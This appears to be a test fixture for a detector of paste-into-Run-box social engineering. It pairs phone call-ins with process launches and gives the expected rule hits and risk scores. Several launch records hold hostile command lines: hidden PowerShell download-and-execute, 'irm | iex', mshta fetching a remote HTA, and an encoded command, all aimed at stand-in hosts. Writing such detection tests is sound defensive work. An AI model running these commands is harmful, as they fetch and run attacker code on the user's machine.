# Callers and pages have people paste one line into the Run box: the desktop starts a shell that
# downloads and runs. A shell starts such a line too, and a shortcut a hidden shell.
person ana
person ben
person eva
person fay
person gus
10:02 ana call-in +442079460031 4m
10:05 ana run C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe cmd="powershell -w h -nop -c iex(iwr -useb verify.example/c.txt)" parent=C:\Windows\explorer.exe
10:02 ben call-in +442079460032 4m
10:05 ben run C:\Windows\System32\mshta.exe cmd="mshta https://verify.example/v.hta" parent=C:\Windows\explorer.exe
10:02 eva call-in +442079460033 4m
10:05 eva run C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe cmd="powershell -c irm https://astral.example/install.ps1 | iex" parent=C:\Windows\System32\cmd.exe
10:02 fay call-in +442079460034 4m
10:05 fay run C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe cmd="powershell -w hidden -file C:\scripts\drives.ps1" parent=C:\Windows\explorer.exe
10:02 gus call-in +442079460035 4m
10:05 gus run C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe cmd="powershell -enc SQBFAFgAIAAoAGkAcgBt" parent=C:\Windows\explorer.exe
expect: ana hits=C9,F7 points.F7=35 band=medium says="started from the desktop, as by its Run box"
expect: ben hits=C9,F7 points.F7=35 band=medium
expect: eva hits=C9,F7 points.F7=25 band=low
expect: fay hits=C9,F7 points.F7=25 band=low
expect: gus hits=C9,F7 points.F7=35 band=medium
